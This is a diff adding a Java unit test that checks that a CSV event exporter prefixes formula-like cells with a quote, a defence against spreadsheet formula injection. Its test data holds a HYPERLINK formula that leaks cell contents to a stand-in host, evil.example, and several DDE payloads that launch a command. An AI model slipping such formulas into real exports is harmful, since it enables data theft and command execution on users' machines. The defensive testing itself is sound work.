@@ -77,4 +77,29 @@ class EventCsvExporterTest {
         assertEquals(List.of("yes", "checked"), r.subList(7, 9));
         assertTrue(out.toString().endsWith("\r\n"));
     }
+
+    /** Cells from imported pages that a spreadsheet would run as formulas are written with a leading quote (OWASP). */
+    @Test
+    void formulaLikeCellsAreWrittenAsText() {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        Event e = new Event(8, EventKind.MEETING, new DateRange(LocalDate.of(2023, 3, 6), LocalDate.of(2023, 3, 6),
+                org.parallax.model.DatePrecision.DAY), List.of(1L), List.of(hyperlink, "Derek Chollet"),
+                List.of(3L), List.of("+1+cmd|' /C calc'!A0"), List.of(new EventSource(12, 0, 10, "They met.")), true,
+                "@SUM(1+1)*cmd|' /C calc'!A0");
+        Map<Long, ArticleSummary> articles = Map.of(
+                12L, new ArticleSummary(12, "-2+3+cmd|' /C calc'!A0", null, null, DateSource.NONE, null));
+        StringWriter out = new StringWriter();
+        new EventCsvExporter().write(List.of(e), articles, out);
+
+        List<String> r = parse(out.toString()).get(1);
+        assertEquals("'" + hyperlink + "; Derek Chollet", r.get(4));
+        assertEquals("'+1+cmd|' /C calc'!A0", r.get(5));
+        assertTrue(r.get(6).startsWith("'-2+3+cmd"), r.get(6));
+        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", r.get(8));
+        // tab and carriage return too; our own columns and plain text are left alone
+        assertEquals("'\tx", EventCsvExporter.text("\tx"));
+        assertEquals("'\rx", EventCsvExporter.text("\rx"));
+        assertEquals("Derek Chollet", EventCsvExporter.text("Derek Chollet"));
+        assertEquals(List.of("2023-03-06", "2023-03-06", "DAY", "MEETING"), r.subList(0, 4));
+    }
 }
